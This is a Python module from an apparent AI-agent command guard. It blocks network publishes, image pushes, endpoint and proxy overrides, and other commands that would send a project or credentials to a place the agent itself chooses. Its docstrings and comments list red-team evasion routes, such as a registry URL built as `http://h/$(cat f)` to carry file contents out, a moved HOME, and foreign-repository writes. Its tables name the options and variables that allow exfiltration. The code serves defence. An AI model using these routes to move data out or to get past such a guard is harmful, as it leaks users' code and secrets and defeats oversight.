"""Where a network program sends what it sends, when the command itself says so (red team 47).

Under a token that denies network commands (`open`: curl, nc ... are exfiltration; `builder`: an
allow-list), installs from a URL and the clouds' own copy commands to the user's account stay
allowed, and `git push` to a configured remote by name too; what is refused is a send to a place,
or under an account, that the command chooses itself (as `git push URL`, sinkrules.py):

1. a publish or upload (`npm publish`, `twine upload`, `cargo publish`, `gem push`, `docker push`,
   `helm push`, `dotnet nuget push` ...) given its destination (a registry, index, host or
   repository option; a variable such as NPM_CONFIG_REGISTRY or TWINE_REPOSITORY_URL set on the
   line; a project file the agent can write that names one: package.json `publishConfig`,
   `.yarnrc.yml`, `bunfig.toml`, `.cargo/config.toml`, Cargo.toml `publish = [...]`, uv's
   `publish-url`, a gemspec's `allowed_push_host`), or the credentials to publish with (an
   account the command supplies: `twine -u/-p`, TWINE_PASSWORD, `--token`, NPM_TOKEN ...).
   An image pushed to a registry host is refused unless the user's own registry logins list it
   (~/.docker/config.json `auths`/`credHelpers`, podman's and helm's auth files); Docker Hub, the
   default, is the user's account. `docker login` and the like add such a login: refused. Any
   cloud or forge CLI given another endpoint or account (`aws --endpoint-url`, AWS_ENDPOINT_URL,
   AWS_CONFIG_FILE, `gh --hostname`, GH_HOST, GH_TOKEN ...), and GitHub operations that make
   content public or send it to a URL (`gh gist create`, `gh repo create --public`, `gh repo edit
   --visibility public`, a `gh api` field holding a URL: a webhook);
2. a destination built at run time: a URL word, or the value of a destination option, holding a
   command substitution or a variable the line does not set (`npm view x --registry
   http://h/$(cat f)`: the data travels in the request);
3. a proxy the command line names (`HTTPS_PROXY=…`, `--proxy`, `git -c http.proxy=`, `npm config set
   proxy`, GOPROXY=…): every request of the program, credentials included, goes through it;
   configuration commands that point later calls elsewhere (`npm config set registry`, `go env -w
   GOPROXY=`, `poetry config repositories.x`, `bundle config mirror.…`, `gem sources --add`);
4. a URL naming a deny-host (the cloud metadata services) in any word of these programs.
Loaded only for the programs of knowledge.NET_SENDERS (and `python -m` of one of them) and for
command lines that mention a proxy, where the token denies network commands.
"""

import os
import re

from legant_guard.hook.model import deny

_EXFIL = "and the token denies network commands (exfiltration)"

# program: (verbs that send the project, options naming where to or as whom, variables that do)
_NPM = (("publish",), ("--registry", "-reg", "--userconfig", "--globalconfig", "--_authtoken"),
        ("npm_config_registry", "npm_config_userconfig", "npm_config_globalconfig", "npm_token", "node_auth_token",
         "npm_config__authtoken", "yarn_npm_registry_server", "yarn_npm_publish_registry", "yarn_npm_auth_token",
         "yarn_registry", "bun_config_registry", "bun_config_token"))
_PUBLISHERS = {
    "npm": _NPM, "pnpm": _NPM, "yarn": _NPM, "bun": _NPM,
    "twine": (("upload", "register"), ("--repository-url", "--config-file", "-u", "--username", "-p", "--password",
                                       ),
              ("twine_repository_url", "twine_username", "twine_password")),
    "uv": (("publish",), ("--publish-url", "--index", "--check-url", "-t", "--token", "-u", "--username", "-p",
                          "--password", "--config-file"),
           ("uv_publish_url", "uv_publish_token", "uv_publish_username", "uv_publish_password", "uv_publish_index",
            "uv_config_file")),
    "poetry": (("publish",), ("-r", "--repository", "-u", "--username", "-p", "--password"),
               ("poetry_repositories_", "poetry_pypi_token_", "poetry_http_basic_")),
    "hatch": (("publish",), ("-r", "--repo", "-u", "--user", "-a", "--auth", "--ca-cert", "--client-cert"),
              ("hatch_index_repo", "hatch_index_user", "hatch_index_auth", "hatch_index_ca_cert")),
    "flit": (("publish",), ("--pypirc",), ("flit_index_url", "flit_username", "flit_password")),
    "cargo": (("publish", "owner", "yank"), ("--index", "--registry", "--token", "--config"),
              ("cargo_registry_default", "cargo_registries_", "cargo_registry_token", "cargo_registry_index")),
    "gem": (("push", "owner", "yank"), ("--host", "-k", "--key", "--config-file"),
            ("rubygems_host", "gem_host_api_key")),
    "dotnet": (("push",), ("-s", "--source", "-k", "--api-key", "--configfile"), ("nuget_packages_source",)),
    "nuget": (("push",), ("-source", "-s", "-apikey", "-k", "-configfile"), ()),
    "mvn": (("deploy", "deploy:deploy", "deploy:deploy-file"), ("-s", "--settings", "-gs", "--global-settings"),
            ()),
}
# mvn's properties that name where `deploy` sends the artifacts
_MVN_DESTINATIONS = ("-daltdeploymentrepository", "-daltreleasedeploymentrepository",
                     "-daltsnapshotdeploymentrepository", "-durl=", "-drepositoryid=")
# Project files the agent can write that choose where a publish goes (text searched for the key)
_PROJECT_CONFIG = {
    "npm": (("package.json", "publishconfig"),), "pnpm": (("package.json", "publishconfig"),),
    "bun": (("package.json", "publishconfig"), ("bunfig.toml", "registry")),
    "yarn": (("package.json", "publishconfig"), (".yarnrc.yml", "registry"), (".yarnrc", "registry")),
    "uv": (("pyproject.toml", "publish-url"), ("uv.toml", "publish-url"), ("pyproject.toml", "[[tool.uv.index]]")),
    "cargo": (("Cargo.toml", "publish = ["), ("Cargo.toml", "publish=["), (".cargo/config.toml", "registr"),
              (".cargo/config", "registr")),
}

# Image tools: the verbs that send an image to a registry, and the options naming its credentials
_IMAGE_TOOLS = frozenset(("docker", "podman", "nerdctl", "buildah", "skopeo", "crane", "oras", "helm", "regctl", "ko"))
_IMAGE_SENDS = frozenset(("push", "copy", "sync", "append", "attach", "mutate", "publish"))

# Cloud and forge CLIs: options and variables that choose the endpoint or the account
_ENDPOINTS = {
    "aws": (("--endpoint-url", "--ca-bundle", "--no-verify-ssl"),
            ("aws_endpoint_url", "aws_config_file", "aws_shared_credentials_file", "aws_access_key_id",
             "aws_secret_access_key", "aws_session_token", "aws_ca_bundle")),
    "gsutil": (("-o",), ("boto_config", "boto_path")),
    "gcloud": (("--access-token-file", "--credential-file-override", "--impersonate-service-account"),
               ("cloudsdk_api_endpoint_overrides_", "cloudsdk_config", "cloudsdk_auth_access_token_file",
                "cloudsdk_auth_credential_file_override", "google_application_credentials")),
    "az": (("--connection-string", "--sas-token", "--account-key"),
           ("azure_config_dir", "azure_client_secret", "azure_client_id", "azure_storage_connection_string",
            "azure_storage_key", "azure_storage_sas_token")),
    "terraform": ((), ("tf_http_", "tf_cli_args")), "tofu": ((), ("tf_http_", "tf_cli_args")),
    "hf": (("--endpoint", "--token"), ("hf_endpoint", "hf_token", "hugging_face_hub_token")),
    "huggingface-cli": (("--endpoint", "--token"), ("hf_endpoint", "hf_token", "hugging_face_hub_token")),
    "kaggle": ((), ("kaggle_username", "kaggle_key", "kaggle_config_dir")),
    "gh": (("--hostname",), ("gh_host", "gh_token", "github_token", "gh_enterprise_token", "github_enterprise_token",
                             "gh_config_dir", "gh_repo")),
}
# Options whose value is a destination or a request header (class 2: not built at run time)
_VALUE_DESTINATIONS = frozenset(("--registry", "--index-url", "--extra-index-url", "--find-links", "--index", "--host",
                                 "--source", "--repository-url", "--publish-url", "--endpoint-url", "--hostname",
                                 "--proxy", "--https-proxy", "--header", "--user-agent", "--git", "--url", "--remote"))
# npm publish's options that take a value (not the folder or tarball published)
_NPM_VALUES = ("--tag", "--access", "--otp", "-w", "--workspace", "--provenance-file", "--auth-type", "--filter",
               "--report-summary", "--publish-branch")

# Folders where the programs read their configuration and credentials: moved on the line, a send
# goes where, or as whom, files the agent can write say (`HOME=/tmp/h npm publish` reads
# /tmp/h/.npmrc; `HOME=/tmp/h aws s3 cp …` acts as the account of /tmp/h/.aws/credentials)
_HOMES = ("home", "xdg_config_home", "cargo_home", "hf_home", "gem_spec_cache", "gemrc")
_ASSIGNED = {}  # name -> compiled `NAME=` matcher (case-insensitive, as npm reads its variables)


def check(policy, cmd, command, context=None):
    """The refusal of a network program's send to a place or account the command chooses
    (classes 1, 2 and 4 of the module docstring), or None. The caller has checked the name."""
    from legant_guard.hook.sinkrules import denies_network

    if not denies_network(policy):
        return None
    argv = cmd.argv
    name = cmd.executable
    if name.startswith("python"):  # `python -m twine upload …`
        k = argv.index("-m") if "-m" in argv else -1
        if k < 0 or k + 1 >= len(argv):
            return None
        name, argv = argv[k + 1], argv[k + 1:]
    ran = _package_run(name, argv)
    if ran is not None:  # `npx npm publish --registry …`: the package runner's program, judged as itself
        name, argv = ran
        from legant_guard.hook.engine import command_denial

        verdict = command_denial(policy, " ".join(argv))  # `npx http-server`: a program on the exfil list
        if verdict and verdict.rule == "deny-cmd":
            return deny(f"`{cmd.executable}` would run the package `{name}`: {verdict.reason.removeprefix('Legant: ')}",
                        "deny-cmd")
    return _built_at_run_time(cmd, name) or _deny_host(policy, name, argv) or _publisher(cmd, name, argv, command, context) or \
        _image(cmd, name, argv, command, context) or _endpoint(name, argv, command) or _reconfigures(name, argv) or \
        _forge(name, argv, getattr(context, "project", None) or cmd.cwd)


# Package runners: the program of a package they download and run, after their own options
_RUNNERS = {"npx": 1, "pnpx": 1, "bunx": 1, "uvx": 1, "pipx": 2, "pnpm": 2, "yarn": 2, "bun": 2}
_RUNNER_WORDS = ("run", "dlx", "x")
_RUNNER_VALUES = ("-p", "--package", "--from", "--with", "--spec", "--python", "-c", "--call")


def _package_run(name, argv):
    """(program, its argv) of `npx PKG ARGS`, `pnpm dlx PKG`, `pipx run PKG`, `bunx PKG@1 …`, or None."""
    words = _RUNNERS.get(name)
    if words is None or words == 2 and (len(argv) < 2 or argv[1] not in _RUNNER_WORDS):
        return None
    k = words
    while k < len(argv) and argv[k].startswith("-"):
        k += 2 if argv[k] in _RUNNER_VALUES else 1
    if k >= len(argv):
        return None
    program = argv[k].rsplit("/", 1)[-1]
    program = program.split("@", 1)[0] if not program.startswith("@") else program
    program = re.split(r"[=<>~!\[]", program, maxsplit=1)[0]
    return program, [program] + argv[k + 1:]


def _operands(argv, with_value=()):
    """The words of argv[1:] that are not options nor the value of one of `with_value`."""
    out, k = [], 1
    while k < len(argv):
        word = argv[k]
        if word == "--":
            return out + argv[k + 1:]
        if word in with_value:
            k += 2
            continue
        if not word.startswith("-"):
            out.append(word)
        k += 1
    return out


def _option(argv, options):
    """The first word of argv naming one of `options` (`--x V`, `--x=V`, `-xV` for one letter, and
    an abbreviation: npm's nopt, argparse and Ruby's OptionParser take an unambiguous prefix,
    `--reg` for `--registry`), or None."""
    for word in argv[1:]:
        if word == "--":
            return None
        low = word.lower()
        head = low.split("=", 1)[0]
        for opt in options:
            if low == opt or low.startswith(opt + "=") or (len(opt) == 2 and low.startswith(opt) and
                                                           not opt.startswith("--") and len(low) > 2 and
                                                           not low.startswith("--")) or \
                    (head.startswith("--") and len(head) > 3 and opt.startswith(head)):
                return word
        if low.startswith("--@") and ":registry" in low:  # `--@scope:registry=URL`
            return word
        if low.startswith("--//") and ":_auth" in low:  # `--//host/:_authToken=…`
            return word
    return None


def assigned(command, names):
    """The first of `names` (lower case; a trailing `_` is a prefix) the command line assigns
    (`NAME=…` as a prefix, an export, `env NAME=…`: any spelling of case), or None."""
    low = command.lower().replace("_", "")
    for name in names:
        if name.replace("_", "") not in low:
            continue
        pattern = _ASSIGNED.get(name)
        if pattern is None:
            tail = r"[A-Za-z0-9_]{0,64}=" if name.endswith("_") else r"="
            pattern = _ASSIGNED[name] = re.compile(r"(?<![A-Za-z0-9_])" + re.escape(name) + tail, re.IGNORECASE)
        if pattern.search(command):
            return name.upper()
    return None


def _verb(argv, verbs, with_value=()):
    """The verb of `argv` among `verbs` (its first operand; `yarn npm publish`: a later one), or None."""
    words = _operands(argv, with_value)
    if not words:
        return None
    if words[0] in verbs:
        return words[0]
    if words[0] in ("npm", "image", "buildx", "nuget", "manifest", "chart") and len(words) > 1 and words[1] in verbs:
        return words[1]
    return None


def _publisher(cmd, name, argv, command, context=None):
    rule = _PUBLISHERS.get(name)
    if rule is None:
        return None
    verbs, options, variables = rule
    verb = _verb(argv, verbs, options)
    if verb is None:
        return None
    what = f"`{name} {verb}`"
    word = _option(argv, options)
    if word is None and name == "mvn":
        word = next((w for w in argv if w.lower().startswith(_MVN_DESTINATIONS)), None)
    if word is not None:
        return deny(f"{what} would send the project where, or as whom, `{word[:80]}` says, which the command "
                    f"names itself, {_EXFIL}; publish with the user's own configuration", "network")
    variable = assigned(command, variables + _HOMES)
    if variable is not None:
        return deny(f"{what} would send the project where, or as whom, {variable} set on the command line says, "
                    f"{_EXFIL}; publish with the user's own configuration", "network")
    folders = [cmd.cwd]
    if name in ("npm", "pnpm", "yarn", "bun"):
        operands = [w for w in _operands(argv, options + _NPM_VALUES) if w not in ("npm", "publish")]
        if operands and not os.path.isdir(os.path.join(cmd.cwd, operands[0])):
            return deny(f"{what} of `{operands[0]}`: where it goes is in the manifest inside it "
                        f"(`publishConfig`), which the guard cannot read, {_EXFIL}; publish the package folder",
                        "network")
        folders = [os.path.join(cmd.cwd, operands[0])] if operands else folders
    members = _member_folders(cmd.cwd, name, argv)
    if members is None:
        return deny(f"{what} takes in the members of a workspace too large to read, whose manifests may send them "
                    f"elsewhere, {_EXFIL}; publish one package folder at a time", "network")
    folders += members
    found = None
    for folder in folders:
        found = found or _project_config(name, folder)
    if found is None and name in ("npm", "pnpm", "yarn", "bun"):
        registry = _unauthenticated_registry(cmd, name, getattr(context, "home", None) if context else None,
                                             getattr(context, "project", None) if context else None)
        if registry and registry.endswith(".npmrc"):
            return deny(f"{what} from a folder outside the project reads {registry}, a configuration the agent can "
                        f"write, {_EXFIL}; publish from the project", "network")
        if registry:
            return deny(f"{what} would send the project to {registry[:100]}, the registry the npm configuration "
                        f"names, for which it holds no credentials (`npm config set registry` may have set it), "
                        f"{_EXFIL}; ask the user to publish", "network")
    if found is not None:
        return deny(f"{what} would send the project where {found} (a file the agent can write) says, {_EXFIL}; "
                    "publish with the user's own configuration", "network")
    if name == "gem":
        spec = _gemspec_host(cmd.cwd)
        if spec:
            return deny(f"{what} would send the gem to the `allowed_push_host` of {spec} (a file the agent can "
                        f"write), {_EXFIL}", "network")
    return None


_CONFIG_LIMIT = 512 * 1024


def _project_config(name, cwd):
    """The project file (and key) that points `name`'s publish elsewhere, or None."""
    from legant_guard.hook.scriptfiles import read_regular

    for filename, key in _PROJECT_CONFIG.get(name, ()):
        folder = cwd
        for _ in range(8 if filename.startswith(".cargo") else 1):  # (cargo reads .cargo/ of every folder above)
            path = os.path.join(folder, filename)
            if os.path.lexists(path):
                text = read_regular(path, _CONFIG_LIMIT)
                if text is None or key in text.lower():
                    return f"{path} ({key.strip('[]= ')})"
            parent = os.path.dirname(folder)
            if parent == folder:
                break
            folder = parent
    return None


# Options that publish other packages of a workspace than the folder's own
_MEMBERS = {"npm": ("-w", "--workspace", "--workspaces", "-ws"), "pnpm": ("-r", "--recursive", "--filter"),
            "yarn": ("-a", "--all"), "cargo": ("-p", "--package", "--workspace", "--all")}
_WALK_LIMIT = 2000


def _member_folders(cwd, name, argv):
    """The folders below `cwd` holding a manifest, when the publish takes in a workspace's members
    (`npm publish -w pkg`, `--workspaces`, `cargo publish -p crate`), bounded: past the limit the
    folders are not all known: None."""
    options = _MEMBERS.get(name, ())
    if not any(w in options or w.split("=", 1)[0] in options for w in argv):
        return []
    manifest = "Cargo.toml" if name == "cargo" else "package.json"
    out, seen = [], 0
    for folder, dirs, files in os.walk(cwd):
        dirs[:] = [d for d in dirs if d not in ("node_modules", ".git", "target")]
        seen += 1
        if seen > _WALK_LIMIT or folder.count(os.sep) - cwd.count(os.sep) > 6:
            return None
        if manifest in files and folder != cwd:
            out.append(folder)
    return out


def _gemspec_host(cwd):
    from legant_guard.hook.scriptfiles import read_regular

    try:
        names = [n for n in os.listdir(cwd) if n.endswith(".gemspec")][:20]
    except OSError:
        return None
    for n in names:
        text = read_regular(os.path.join(cwd, n), _CONFIG_LIMIT)
        if text is None or "allowed_push_host" in text:
            return os.path.join(cwd, n)
    return None


def _registry_of(ref):
    """The registry host an image reference names (`127.0.0.1:5000/img`, `docker://ghcr.io/x`,
    `oci://h/x`), or None for Docker Hub (`img`, `user/img`) and what is no image reference."""
    low = ref.lower()
    for prefix in ("docker://", "oci://", "https://", "http://", "docker-daemon:", "registry:"):
        if low.startswith(prefix):
            low = low[len(prefix):]
            break
    else:
        if ":" in low.split("/", 1)[0] and "/" not in low:
            return None  # (`img:tag`)
        if low.startswith(("dir:", "oci-archive:", "docker-archive:", "containers-storage:", ".", "/")):
            return None
    head = low.split("/", 1)[0]
    if "/" in low and ("." in head or ":" in head or head == "localhost") or low.startswith("["):
        return head
    return None


def _image(cmd, name, argv, command, context):
    if name not in _IMAGE_TOOLS:
        return None
    words = _operands(argv, ("-t", "--tag", "-f", "--file", "--config", "-H", "--host", "--context", "--platform",
                             "--build-arg", "-o", "--output", "--destination", "-u", "--username", "--authfile"))
    if "login" in words[:2]:
        return deny(f"`{name} login` would add registry credentials the agent chooses, where a later push sends "
                    f"images, {_EXFIL}; ask the user to log in", "network")
    if words[:1] == ["context"] and words[1:2] in (["create"], ["update"]) and \
            any("host=" in w and "host=unix://" not in w for w in argv):
        return deny(f"`{name} context {words[1]}` points the client at a daemon elsewhere, which would receive the "
                    f"build context (the project's files), {_EXFIL}", "network")
    pushes = bool(set(words[:2]) & _IMAGE_SENDS) or any(
        w == "--push" or w.startswith("--push=") and w != "--push=false" or "type=registry" in w or
        "push=true" in w for w in argv)
    if not pushes:
        return None
    if _option(argv, ("--config", "--authfile", "--registry-config", "--creds", "--dest-creds", "--dest-authfile")) or \
            assigned(command, ("docker_config", "registry_auth_file", "helm_registry_config", "ko_docker_repo")):
        return deny(f"`{name}` is given registry credentials or a configuration the command chooses, {_EXFIL}",
                    "network")
    targets = words[1:] if words and words[0] in _IMAGE_SENDS else words
    if "--push" in argv or any("type=registry" in w or "push=true" in w for w in argv):
        targets = [argv[k + 1] for k, w in enumerate(argv[:-1]) if w in ("-t", "--tag")] + \
            [w.split("=", 1)[1] for w in argv if w.startswith(("--tag=", "-t="))]
        targets += [m for w in argv for m in re.findall(r"name=([^,\s]+)", w)]
    if name in ("skopeo", "crane", "regctl") and len(targets) > 1:
        targets = targets[1:]  # (the source is read, the last operands written)
    moved = assigned(command, _HOMES)
    if moved is not None:
        return deny(f"`{name}` would send an image with the registry logins of the folder {moved} set on the command "
                    f"line names, {_EXFIL}", "network")
    known = _logged_in(context.home if context is not None else os.path.expanduser("~"))
    for ref in targets:
        host = _registry_of(ref)
        if host is not None and host not in known:
            return deny(f"`{name}` would send an image to the registry `{host}`, which the command names and the "
                        f"user's registry logins do not list, {_EXFIL}; push to a registry the user has logged in to",
                        "network")
    return None


def _logged_in(home):
    """The registry hosts the user has logged in to: docker's, podman's and helm's auth files."""
    import json

    from legant_guard.hook.scriptfiles import read_regular

    hosts = set()
    runtime = os.environ.get("XDG_RUNTIME_DIR", "")
    for path in (os.path.join(home, ".docker", "config.json"), os.path.join(home, ".config", "containers", "auth.json"),
                 os.path.join(runtime, "containers", "auth.json") if runtime else "",
                 os.path.join(home, ".config", "helm", "registry", "config.json")):
        text = read_regular(path, _CONFIG_LIMIT) if path and os.path.isfile(path) else None
        try:
            data = json.loads(text) if text else {}
        except ValueError:
            continue
        for key in ("auths", "credHelpers"):
            entries = data.get(key) if isinstance(data, dict) else None
            for url in entries if isinstance(entries, dict) else ():
                host = url.lower().split("://", 1)[-1].split("/", 1)[0]
                hosts.add(host)
    return hosts


def _endpoint(name, argv, command):
    rule = _ENDPOINTS.get(name)
    if rule is None:
        return None
    options, variables = rule
    variables = variables + _HOMES
    word = _option(argv, options)
    if name == "gsutil" and word is not None and "host" not in word.lower() and "proxy" not in word.lower():
        k = argv.index(word) if word in argv else -1
        value = argv[k + 1] if 0 <= k < len(argv) - 1 else word
        word = word if any(s in value.lower() for s in ("host", "proxy", "credentials", "boto")) else None
    variable = None if word is not None else assigned(command, variables)
    if word is None and variable is None or name == "aws" and _aws_reads(argv):
        return None
    return deny(f"`{name}` would send its requests to an endpoint or under an account that "
                f"`{word or variable}` on the command line chooses, {_EXFIL}; use the user's own configuration",
                "network")


def _aws_reads(argv):
    """Does `aws …` only read (`s3 ls`, `describe-*`, `list-*`, `get-*`, a copy from a bucket)?
    Under another endpoint or account a read carries nothing but the words typed."""
    words = _operands(argv, ("--endpoint-url", "--profile", "--region", "--output", "--query", "--ca-bundle",
                             "--cli-read-timeout", "--cli-connect-timeout", "--color"))
    if len(words) < 2:
        return True
    op = words[1]
    if op in ("ls", "presign") or op.startswith(("describe-", "list-", "get-", "head-", "wait")):
        return True
    return op in ("cp", "mv", "sync") and len(words) > 2 and words[2].startswith("s3://")


# Configuration commands that point later calls at another place: (program, the words that set, keys)
# (`npm config set registry URL` stays allowed, an everyday form (red team 14): a later publish is
# judged by the credentials the user holds for the registry, _unauthenticated_registry)
_ROUTING_KEYS = ("proxy", "https-proxy", "http-proxy", "httpproxy", "httpsproxy", "userconfig", "globalconfig",
                 "strict-ssl", "cafile", "ca", "_authtoken", "_auth", "npmpublishregistry", "npmauthtoken",
                 "unsafehttpwhitelist")


def _reconfigures(name, argv):
    words = [w.lower() for w in _operands(argv)]
    reason = None
    if name in ("npm", "pnpm", "yarn", "bun") and words[:1] == ["config"] and len(words) > 2 and words[1] == "set":
        key = words[2].split("=", 1)[0].lstrip("-")
        if key in _ROUTING_KEYS or key.endswith((":_authtoken", ":_auth")) or key.startswith("//"):
            reason = f"`{name} config set {key}` points later installs and publishes at another place or account"
    elif name == "go" and words[:1] == ["env"] and "-w" in argv:
        bad = [w for w in argv if w.split("=", 1)[0].upper() in ("GOPROXY", "GOSUMDB") and _go_place(w)]
        if bad:
            reason = f"`go env -w {bad[0][:80]}` points later module downloads at another place"
    elif name == "poetry" and words[:1] == ["config"] and len(words) > 1 and \
            words[1].startswith(("repositories.", "http-basic.", "pypi-token.", "certificates.")):
        reason = f"`poetry config {words[1]}` points later publishes at another place or account"
    elif name in ("bundle", "bundler") and words[:1] == ["config"] and any(w.startswith("mirror.") for w in words):
        reason = "`bundle config mirror.…` points later installs at another place"
    elif name == "gem" and words[:1] == ["sources"] and any(w in ("-a", "--add") for w in argv):
        reason = "`gem sources --add` points later installs at another place"
    elif name == "cargo" and words[:1] == ["login"] or name == "gh" and words[:2] == ["auth", "login"] or \
            name in ("npm", "pnpm", "yarn") and words[:1] in (["login"], ["adduser"], ["add-user"]) or \
            name == "gem" and words[:1] == ["signin"] or name in ("hf", "huggingface-cli") and "login" in words[:2] or \
            name in ("terraform", "tofu") and words[:1] == ["login"]:
        reason = f"`{name} {' '.join(words[:2])}` stores credentials the agent chooses, which later calls use"
    elif name == "aws" and words[:1] == ["configure"] and words[1:2] in (["set"], ["import"]) or \
            name == "gcloud" and words[:1] == ["auth"] and (words[1:2] == ["activate-service-account"] or
                                                          any(w.startswith("--cred-file") for w in argv)) or \
            name == "az" and words[:1] == ["login"] and any(w in ("--service-principal", "-p", "--password") or
                                                          w.startswith(("--password=", "--federated-token"))
                                                          for w in argv):
        reason = f"`{name} {' '.join(words[:2])}` switches the cloud account later commands act as to one the agent chooses"
    elif name in ("terraform", "tofu") and any("://" in w or "address" in w.lower() or "endpoint" in w.lower()
                                               for w in argv if w.startswith("-backend-config")):
        reason = f"`{name} -backend-config` sends the state (which holds secrets) to the place the command names"
    if reason is None:
        return None
    return deny(f"{reason}, {_EXFIL}; ask the user to change the configuration", "network")


# gh's verbs that only read (a repository named with -R may be anyone's)
_GH_READS = frozenset(("view", "list", "status", "diff", "checks", "download", "clone", "browse", "search", "watch"))
_GH_FIELDS = ("-f", "--raw-field", "-F", "--field", "--input")


def _go_place(word):
    """Does `GOPROXY=…`/`GOSUMDB=…` name a place other than `off`, `direct` and Go's own services?"""
    for entry in re.split(r"[,|\s]", word.split("=", 1)[1] if "=" in word else ""):
        host = entry.strip().lower().split("://", 1)[-1].split("/", 1)[0].split("+", 1)[0]
        if host and host not in ("off", "direct", "proxy.golang.org", "sum.golang.org", "sum.golang.google.cn"):
            return True
    return False


def _unauthenticated_registry(cmd, name, home, project=None):
    """The registry an npm-family publish goes to by the user's configuration (~/.npmrc, the
    folder's .npmrc: `npm config set registry URL` writes it, an everyday form) when it is not
    npm's own and those files hold no credentials for it: a registry the user has not logged in
    to is one the agent may have chosen."""
    from legant_guard.hook.scriptfiles import read_regular

    texts = [read_regular(os.path.join(folder, ".npmrc"), _CONFIG_LIMIT) or ""
             for folder in (home, cmd.cwd) if folder]
    outside = cmd.cwd != project and not cmd.cwd.startswith(project.rstrip("/") + "/") if project else False
    if outside and texts[-1]:  # (a folder outside the project: its .npmrc is one the agent can write)
        return os.path.join(cmd.cwd, ".npmrc")
    registry = None
    for text in texts:
        for line in text.splitlines():
            key, eq, value = line.partition("=")
            if eq and key.strip().lower() == "registry":
                registry = value.strip().strip("\"'")
    if not registry:
        return None
    host = registry.lower().split("://", 1)[-1].split("/", 1)[0]
    if host in ("registry.npmjs.org", "registry.yarnpkg.com"):
        return None
    if any(line.strip().lower().startswith("//" + host) and ("_auth" in line.lower() or "username" in line.lower())
           for text in texts for line in text.splitlines()):
        return None
    return registry


def _forge(name, argv, project):
    """GitHub operations that make the project public, send it to a URL or write to a repository
    other than the project's own (`gh`); Hugging Face and Kaggle uploads that make files public."""
    if name in ("hf", "huggingface-cli", "kaggle"):
        words = _operands(argv, ("--repo-type", "--revision", "-p", "--path", "--commit-message", "--include",
                                 "--exclude", "-m", "--message"))
        if name == "kaggle" and "--public" in argv and any(w in ("create", "version", "push") for w in words[:2]) or \
                name != "kaggle" and (words[:1] in (["upload"], ["upload-large-folder"]) or words[:2] == ["repo", "create"]
                                      or words[:2] == ["repos", "create"]) and "--private" not in argv:
            return deny(f"`{name} {' '.join(words[:2])}` puts the files on a repository anyone can read "
                        f"(without --private), {_EXFIL}; ask the user", "network")
        return None
    if name != "gh":
        return None
    words = _operands(argv, ("-R", "--repo", "-X", "--method", "-f", "--raw-field", "-F", "--field", "-H", "--header",
                             "-d", "--description", "-t", "--title", "-b", "--body", "--visibility", "-q", "--jq",
                             "--input", "--body-file", "-B", "--base", "--hostname", "--template", "-p", "--preview"))
    reason = _foreign_repository(argv, words, project)
    if words[:2] == ["gist", "create"] or words[:2] == ["gist", "edit"] or words[:2] == ["gist", "new"]:
        reason = "`gh gist` puts the files it is given on a gist, which anyone with its address can read"
    elif words[:2] == ["repo", "create"] and _made_public(argv):
        reason = "`gh repo create --public` makes a repository anyone can read, where the project can be pushed"
    elif words[:2] == ["repo", "edit"] and _made_public(argv):
        reason = "`gh repo edit --visibility public` makes the repository readable by anyone"
    elif words[:1] == ["api"]:
        fields = [argv[k + 1] for k, w in enumerate(argv[:-1]) if w in ("-f", "--raw-field", "-F", "--field")] + \
            [w.split("=", 1)[1] for w in argv if w.startswith(("--raw-field=", "--field="))]
        urls = [f for f in fields if "://" in f]
        if urls or any("/hooks" in w for w in words):
            reason = "`gh api` would give GitHub a URL to send the repository's events to (a webhook)"
    if reason is None:
        return None
    return deny(f"{reason}, {_EXFIL}; ask the user", "network")


def _made_public(argv):
    """`--public`, `--internal`, `--visibility public|internal` (`=` or not)."""
    return any(w in ("--public", "--internal") or w.startswith("--visibility=") and w[13:] in ("public", "internal") or
               w in ("public", "internal") and k and argv[k - 1] == "--visibility" for k, w in enumerate(argv))


def _foreign_repository(argv, words, project):
    """The reason a gh command writes to a repository (or a place) the command names that is not
    one of the project's own remotes: `gh issue create -R someone/public --body-file src/x`,
    `gh api repos/someone/x/issues -f body=…`, `gh api gists -F …`, a GraphQL mutation."""
    named = [argv[k + 1] for k, w in enumerate(argv[:-1]) if w in ("-R", "--repo")] + \
        [w.split("=", 1)[1] for w in argv if w.startswith("--repo=")] + \
        [w[2:] for w in argv if w.startswith("-R") and len(w) > 2]
    if words[:1] == ["api"]:
        method = next((argv[k + 1].upper() for k, w in enumerate(argv[:-1]) if w in ("-X", "--method")), "")
        method = method or next((w.split("=", 1)[1].upper() for w in argv if w.startswith("--method=")), "")
        writes = method not in ("", "GET", "HEAD") or any(w in _GH_FIELDS or w.split("=", 1)[0] in _GH_FIELDS
                                                          for w in argv)
        path = words[1].lstrip("/") if len(words) > 1 else ""
        if not writes:
            return None
        if path == "graphql":
            if any("mutation" in w for w in argv):
                return "`gh api graphql` with a mutation writes to GitHub where the query says"
            return None
        parts = path.split("?", 1)[0].split("/")
        if parts[0] != "repos" or len(parts) < 3:
            return f"`gh api {path[:60]}` writes to GitHub outside the project's repository"
        named = ["/".join(parts[1:3])]
    elif not named or _GH_READS.intersection(words):
        return None
    own = _own_repositories(project)
    for repo in named:
        key = "/".join(repo.lower().removesuffix(".git").rstrip("/").split("/")[-2:])
        if key not in own:
            return f"`gh` would write to `{repo}`, which is not one of the project's own remotes"
    return None


def _own_repositories(project):
    """owner/name of every remote URL in the project's own git configuration (lower case)."""
    from legant_guard.hook import gitplace, gitremotes

    try:
        found = gitplace.discover(project)
        urls = gitremotes._config_urls(gitplace._common_dir(found) if found else None) or {}
    except Exception:  # a repository the guard cannot place: no remote is the project's own
        return set()
    own = set()
    for values in urls.values():
        for url in values:
            path = url.lower().split("://", 1)[-1].replace(":", "/").removesuffix(".git").rstrip("/")
            own.add("/".join(path.split("/")[-2:]))
    return own


def _built_at_run_time(cmd, name):
    """Class 2: a URL word or a destination option's value built at run time."""
    words = getattr(cmd, "words", None)
    if not words:
        return None
    previous = None
    for e in words:
        src = e.src
        if e.dynamic and ("://" in src or previous in _VALUE_DESTINATIONS or
                          src.startswith("-") and src.split("=", 1)[0] in _VALUE_DESTINATIONS):
            return deny(f"`{name}` would send a request whose destination `{src[:120]}` is built at run time, so "
                        f"what it carries cannot be known, {_EXFIL}; write the URL out", "network")
        previous = None if e.dynamic else e.text
    return None


def _deny_host(policy, name, argv):
    """Class 4: a URL naming a deny-host (the cloud metadata services) in a word of the program."""
    if not policy.deny_hosts or not any(":" in w for w in argv):
        return None
    from legant_guard.hook import toolhosts
    from legant_guard.hook.model import Action

    return toolhosts.check(policy, Action("shell.exec", name), [w for w in argv[1:] if ":" in w])


